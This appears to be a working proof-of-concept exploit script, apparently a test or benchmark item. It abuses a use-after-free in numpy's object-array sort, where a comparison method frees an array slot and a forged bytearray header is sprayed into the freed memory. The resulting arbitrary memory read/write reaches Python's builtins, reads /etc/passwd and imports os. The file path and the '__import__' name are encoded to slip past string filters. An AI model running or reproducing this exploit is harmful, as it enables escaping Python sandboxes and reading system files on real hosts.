# source: numpy generic insertion/quick sort for object arrays keeps a raw copy of the pivot pointer (npysort generic quicksort, cf. numpy gh-3879 "cannot abort an in-progress quicksort"); fake-object technique from CPython exploitation write-ups
# family: memory safety - use-after-free: a comparison method (__gt__) replaces the array slot during ndarray.sort() of an object array; the freed bytes object is reclaimed by a bytearray buffer holding a fake bytearray header
# goal: arbitrary memory read/write -> builtins dict (func_builtins) -> open() reads /etc/passwd, __import__ -> os
import numpy as np


class K:
    def __gt__(self, other):
        if STATE[0] == 0:
            STATE[0] = 1
            A[1] = 0
        return True

    def __lt__(self, other):
        return False


STATE = [0]
A = np.array([K(), bytes(56)], dtype=object)
A.sort()
hdr = np.array([1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0], dtype=np.uint64).tobytes()
spray = bytearray(hdr + bytes(90 - len(hdr)))
fake = A[0]
print(type(fake) is bytearray, len(fake))


def rd(addr):
    return int.from_bytes(fake[addr:addr + 8], "little")


def wr(addr, val):
    fake[addr:addr + 8] = val.to_bytes(8, "little")


def f():
    return 0


p = rd(id(f) + 24)
holder = [None]
items = rd(id(holder) + 24)
wr(p, rd(p) + 1)
wr(items, p)
b = holder[0]
print("builtins dict:", type(b), len(b))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read()[:120])
u = chr(95) * 2
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
